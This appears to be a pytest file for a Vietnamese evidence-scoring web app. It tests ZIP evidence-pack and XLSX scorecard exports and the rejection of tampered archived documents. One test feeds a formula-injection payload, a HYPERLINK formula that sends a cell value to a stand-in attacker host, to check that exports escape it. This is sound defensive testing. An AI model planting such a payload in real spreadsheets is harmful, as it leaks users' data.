"""Exports: the evidence pack ZIP (streamed) and the scorecard XLSX."""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile

from fastapi.testclient import TestClient
from openpyxl import load_workbook

from core.rubric import default_scheme
from kiemchung.archive import Archive
from kiemchung.settings import Settings
from kiemchung.web.exports import evidence_pack, safe_text
from tests.kiemchung.web.conftest import log_in
from tests.kiemchung.web.corpus import UNIT, YEAR, Corpus

MANIFEST_KEYS = [
    "criterion", "criterion_name", "number", "doc_type", "issue_date", "issuer", "page", "quote",
    "sha256", "source_url", "file", "evidence_id", "rule", "check",
]  # fmt: skip


def test_evidence_pack_holds_originals_and_a_manifest(client: TestClient, corpus: Corpus) -> None:
    log_in(client, "kiemtoan")
    response = client.get("/api/exports/evidence-pack", params={"unit": UNIT, "year": YEAR})
    assert response.status_code == 200 and response.headers["content-type"] == "application/zip"
    pack = zipfile.ZipFile(io.BytesIO(response.content))
    assert pack.testzip() is None
    header, *lines = list(csv.reader(io.StringIO(pack.read("manifest.csv").decode("utf-8-sig"))))
    assert header[:3] == ["Mã tiêu chí", "Tiêu chí", "Số, ký hiệu"]  # in Vietnamese, by default
    manifest = [dict(zip(MANIFEST_KEYS, line, strict=True)) for line in lines]
    assert sorted(row["criterion"] for row in manifest) == ["1", "1.1.1", "1.2"]
    for row in manifest:
        data = pack.read(row["file"])
        assert hashlib.sha256(data).hexdigest() == row["sha256"]
        assert row["source_url"] in set(corpus.sources.values())
    plan_row = next(row for row in manifest if row["criterion"] == "1.1.1")
    assert (plan_row["number"], plan_row["issue_date"], plan_row["page"]) == ("297/KH-UBND", "20/12/2023", "1")
    assert plan_row["doc_type"] == "Kế hoạch"
    assert plan_row["quote"] == "Cải cách hành chính năm 2024"


def test_evidence_pack_streams_piece_by_piece(sqlite_home: Settings, corpus: Corpus) -> None:
    archive = Archive(sqlite_home.home)
    pieces = list(evidence_pack(archive, corpus.records.values(), default_scheme()))
    assert len([piece for piece in pieces if piece]) >= len(corpus.records) + 1  # one per original, then the rest
    largest_original = max(path.stat().st_size for path in corpus.files.values())
    assert max(len(piece) for piece in pieces) < largest_original + 4096
    assert zipfile.ZipFile(io.BytesIO(b"".join(pieces))).testzip() is None


def test_scorecard_xlsx_has_every_criterion_and_the_decision(client: TestClient) -> None:
    token = log_in(client, "thamdinh")
    body = {
        "unit": UNIT,
        "year": YEAR,
        "criterion": "1.1.1",
        "action": "override",
        "points": 0,
        "reason": "Không hợp lệ",
    }
    assert client.post("/api/decisions", headers={"X-CSRF-Token": token}, json=body).status_code == 201
    response = client.get("/api/exports/scorecard.xlsx", params={"unit": UNIT, "year": YEAR})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    scheme = default_scheme()
    assert len(workbook.sheetnames) == 1 + len(scheme.areas)  # a summary, then a sheet per area
    summary = {r[0]: r[1] for r in workbook["Tổng hợp"].iter_rows(values_only=True) if r and r[0]}
    assert summary["Điểm tối đa của bộ tiêu chí"] == 100 and summary["Xếp loại"] == "Yếu"
    rows: dict[str, tuple[object, ...]] = {}
    for sheet in workbook.worksheets[1:]:
        header, *body = list(sheet.iter_rows(values_only=True))
        assert header[0] == "Mã tiêu chí" and header[11] == "Thời điểm (giờ Việt Nam)"
        assert sheet.freeze_panes == "C2" and sheet.column_dimensions["B"].width >= 40
        rows.update({str(r[0]): r for r in body})
    assert set(rows) == {node.id for node in scheme.walk()}
    plan = rows["1.1.1"]
    assert plan[3] == 1 and plan[7] == 0 and plan[8] == "Điều chỉnh" and plan[9] == "Không hợp lệ"
    assert plan[5] == "297/KH-UBND, trang 1"  # evidence as document numbers, with the page
    area = workbook.worksheets[1]
    link = next(cell for cell in area["M"] if cell.hyperlink is not None and "criterion=1.1.1" in cell.hyperlink.target)
    assert link.hyperlink.target.startswith("http://testserver/trace?unit=hcm.quan-3")


def test_a_formula_in_a_reason_is_neutralised_in_xlsx_and_csv(client: TestClient, corpus: Corpus) -> None:
    token = log_in(client, "thamdinh")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
    body = {"unit": UNIT, "year": YEAR, "criterion": "1.1.1", "action": "override", "points": 0, "reason": formula}
    assert client.post("/api/decisions", headers={"X-CSRF-Token": token}, json=body).status_code == 201
    workbook = load_workbook(io.BytesIO(client.get("/api/exports/scorecard.xlsx",
                                                   params={"unit": UNIT, "year": YEAR}).content))  # fmt: skip
    reasons = [
        cell for sheet in workbook.worksheets for cell in sheet["J"] if cell.value and "HYPERLINK" in str(cell.value)
    ]
    assert len(reasons) == 1
    assert reasons[0].data_type == "s" and reasons[0].value == "'" + formula
    for text, expected in [("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\r=1", "'\r=1"),
                           ("an toàn", "an toàn"), ("a\x00b", "ab")]:  # fmt: skip
        assert safe_text(text) == expected


def test_a_tampered_original_is_left_out_of_the_pack_and_not_served(client: TestClient, sqlite_home: Settings,
                                                                   corpus: Corpus) -> None:  # fmt: skip
    log_in(client, "kiemtoan")
    plan = corpus.records["plan"].sha256
    path = Archive(sqlite_home.home).original_path(plan)
    assert path is not None
    assert client.get(f"/api/documents/{plan}/original").status_code == 200
    assert client.get(f"/api/documents/{plan}/pages/1/image").status_code == 200
    path.write_bytes(path.read_bytes() + b"%% a line added to the archived file\n")
    served = client.get(f"/api/documents/{plan}/original")
    assert served.status_code == 409 and "KHÔNG khớp" in served.json()["detail"]
    assert client.get(f"/api/documents/{plan}/pages/2/image").status_code == 409
    response = client.get("/api/exports/evidence-pack", params={"unit": UNIT, "year": YEAR})
    pack = zipfile.ZipFile(io.BytesIO(response.content))
    _, *lines = list(csv.reader(io.StringIO(pack.read("manifest.csv").decode("utf-8-sig"))))
    manifest = [dict(zip(MANIFEST_KEYS, line, strict=True)) for line in lines]
    tampered = [row for row in manifest if row["sha256"] == plan]
    assert tampered and all(row["file"] == "" and "KHÔNG khớp" in row["check"] for row in tampered)
    assert not [name for name in pack.namelist() if plan[:12] in name]
    assert all(row["check"] == "khớp" for row in manifest if row["sha256"] != plan)
